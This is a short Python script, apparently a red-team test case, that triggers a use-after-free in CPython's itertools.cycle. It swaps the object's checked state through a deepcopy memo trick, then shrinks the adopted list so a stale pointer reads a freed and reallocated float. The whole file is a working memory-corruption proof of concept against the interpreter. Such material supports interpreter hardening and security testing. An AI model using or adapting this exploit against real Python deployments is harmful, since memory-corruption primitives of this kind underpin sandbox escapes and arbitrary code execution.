# technique: the same memo swap on a plain itertools.cycle: its checked state was replaced by a live list of the user's, which cycle.__setstate__ adopted (case 572's use-after-free after the check; red-team pass 77)
# expect: any
import copy, itertools
class Spy:
    def __init__(self, got): self.got = got
    def __deepcopy__(self, memo):
        self.got.extend(list(memo.keys()))
        return self
class Empty:
    def __iter__(self): return self
    def __next__(self): raise StopIteration
x = itertools.cycle(Empty())
L = list(tuple(float(i) + 0.5 for i in range(10)))   # allocated == 10
y = None
for attempt in range(20):
    got = []
    ds = [dict() for _ in range(5000)]
    copy.deepcopy([ds, Spy(got)])
    del ds
    memo = {k: L for k in got}
    try:
        y = copy.deepcopy(x, memo)      # cycle.__setstate__ gets ([the user's list L], False)
        break
    except TypeError:
        pass
r = [next(y) for _ in range(8)]     # index now 8
del L[2:]                           # 10 -> 2: the item array is kept, ob_item[8] stale, 8.5 freed
z = float("1234.25")                # takes the freed float's block
print("attempt", attempt, "; L =", L, "; next(y) ->", next(y))
